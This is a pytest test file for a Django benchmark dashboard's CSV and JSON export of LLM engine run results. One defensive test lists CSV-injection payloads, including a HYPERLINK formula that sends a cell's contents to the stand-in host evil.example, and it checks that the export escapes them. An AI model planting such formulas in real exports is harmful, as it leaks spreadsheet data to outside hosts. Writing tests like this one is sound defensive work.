from __future__ import annotations

import csv
import io
import json

import pytest
from django.urls import reverse

from measure import catalog
from runs.models import Run
from tests.factories import EngineConfigFactory, request_outcomes
from tests.runs.compare_helpers import speed_runs, speed_summary, spread, succeeded

pytestmark = pytest.mark.django_db


@pytest.fixture
def runs():
    fast, other = EngineConfigFactory(name="fast"), EngineConfigFactory(name="other")
    speed_runs(fast, 40.0, 41.0)
    succeeded(other, "mmlu-pro", {"accuracy": 0.4}, minute=3, status=Run.Status.FAILED)
    return fast, other


def test_it_exports_the_filtered_run_list_as_csv(alice_client, runs):
    fast, _ = runs
    response = alice_client.get(reverse("runs:list"), {"config": fast.pk, "format": "csv"})
    assert response["Content-Disposition"] == 'attachment; filename="sparkdash-runs.csv"'
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [(r["config"], r["job"], r["status"], r["decode_tps_client"]) for r in rows] == [
        ("fast", "speed", "succeeded", "41.0"), ("fast", "speed", "succeeded", "40.0")]
    assert rows[0]["ttft_s"] == "0.21" and rows[0]["url"] == f"/runs/{rows[0]['id']}/"


def test_it_exports_the_run_list_as_json(alice_client, runs):
    response = alice_client.get(reverse("runs:list"), {"format": "json"})
    data = json.loads(response.content)
    assert data["columns"][:3] == ["id", "created", "finished"]
    assert [(r["config"], r["status"], r["decode_tps_client"]) for r in data["rows"]] == [
        ("other", "failed", None), ("fast", "succeeded", 41.0), ("fast", "succeeded", 40.0)]


def test_it_exports_in_one_query_however_many_runs(alice_client, runs, django_assert_max_num_queries):
    speed_runs(runs[0], *[50.0] * 20)
    # Session, user, the runs with their config, engine and machine.
    with django_assert_max_num_queries(3):
        alice_client.get(reverse("runs:list"), {"format": "csv"})


def test_it_exports_the_engines_ttft_and_acceptance_at_each_draft_position(alice_client, runs):
    fast, _ = runs
    summary = speed_summary(50.0, positions=[0.9, 0.75, 0.6, 0.45]) | {"ttft_engine_s": spread(0.18, 0.01)}
    succeeded(fast, "speed", summary, minute=9)
    response = alice_client.get(reverse("runs:list"), {"config": fast.pk, "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    positions = ["acceptance_pos_1", "acceptance_pos_2", "acceptance_pos_3", "acceptance_pos_4"]
    assert list(rows[0])[-5:] == ["url", *positions]
    assert [rows[0][f"acceptance_pos_{i}"] for i in (1, 2, 3, 4)] == ["90.0", "75.0", "60.0", "45.0"]
    assert rows[0]["ttft_engine_s"] == "0.18"
    # Runs without per-position figures (or an engine's TTFT) leave those cells empty.
    assert (rows[1]["acceptance_pos_1"], rows[1]["ttft_engine_s"]) == ("", "")


def test_it_exports_how_many_requests_were_attempted_succeeded_and_failed(alice_client, runs):
    flaky = EngineConfigFactory(name="flaky")
    succeeded(flaky, "speed", speed_summary(40.0) | {"outcomes": request_outcomes(12, 3)}, minute=5)
    response = alice_client.get(reverse("runs:list"), {"format": "json"})
    rows = {r["config"]: r for r in json.loads(response.content)["rows"]}
    got = rows["flaky"]
    assert (got["requests_attempted"], got["requests_succeeded"], got["requests_failed"]) == (12, 9, 3)
    assert got["failed_share"] == 0.25
    assert rows["other"]["requests_attempted"] is None  # a job that counts no request outcomes
    listed = alice_client.get(reverse("runs:list")).content.decode()
    assert "\u26a0 25 % failed</span>" in listed


FORMULAS = ["=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(A1:A9)", "+1+1", "-2+3",
            "\tTAB", "\rCR"]


def test_it_writes_formula_like_config_names_as_text_in_the_csv(alice_client):
    for name in FORMULAS:
        speed_runs(EngineConfigFactory(name=name), 40.0)
    response = alice_client.get(reverse("runs:list"), {"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
    assert sorted(r["config"] for r in rows) == sorted("'" + name for name in FORMULAS)
    assert {r["decode_tps_client"] for r in rows} == {"40.0"}


def test_it_keeps_negative_numbers_numeric_in_the_csv(alice_client):
    config = EngineConfigFactory(name="-1.5")  # a name that is a number reads as that number, no formula
    succeeded(config, "speed", speed_summary(-1.5))
    response = alice_client.get(reverse("runs:list"), {"format": "csv"})
    row = next(csv.DictReader(io.StringIO(response.content.decode())))
    assert (row["config"], row["decode_tps_client"]) == ("-1.5", "-1.5")


def test_it_exports_what_each_run_ran_with_after_the_config_changed(alice_client):
    config = EngineConfigFactory(name="drafting", model="gemma-3-270m", quantization="Q8_0",
                                 speculative_method="ngram-simple", lookahead=4)
    speed_runs(config, 40.0)
    config.lookahead, config.quantization = 8, "Q4_K_M"
    config.save()
    speed_runs(config, 45.0)
    response = alice_client.get(reverse("runs:list"), {"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    picked = sorted((r["revision"], r["model"], r["quantization"], r["draft_method"], r["lookahead"])
                    for r in rows)
    assert picked == [("1", "gemma-3-270m", "Q8_0", "ngram-simple", "4"),
                      ("2", "gemma-3-270m", "Q4_K_M", "ngram-simple", "8")]


def test_it_takes_its_figure_columns_from_the_metric_catalogue(alice_client, runs):
    fast, _ = runs
    summary = speed_summary(40.0) | {"made_up_s": spread(0.5, 0.1)}
    succeeded(fast, "speed", summary, minute=7)
    catalog.declare(catalog.Metric("made_up_s", "made up", "s", "a test's own metric", "lower"))
    try:
        response = alice_client.get(reverse("runs:list"), {"config": fast.pk, "format": "json"})
    finally:
        catalog.forget("made_up_s")
    data = json.loads(response.content)
    figures = [key for key, declared in catalog.CATALOG.items() if declared.over_requests != "value"]
    assert set(figures) | {"made_up_s"} <= set(data["columns"])
    assert data["rows"][0]["made_up_s"] == 0.5 and data["rows"][1]["made_up_s"] is None


def test_it_exports_each_runs_warning_codes(alice_client, runs):
    fast, _ = runs
    Run.objects.filter(config=fast).update(warnings=[{"kind": "client-bound", "message": "..."}])
    response = alice_client.get(reverse("runs:list"), {"config": fast.pk, "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [r["warnings"] for r in rows] == ["client-bound", "client-bound"]
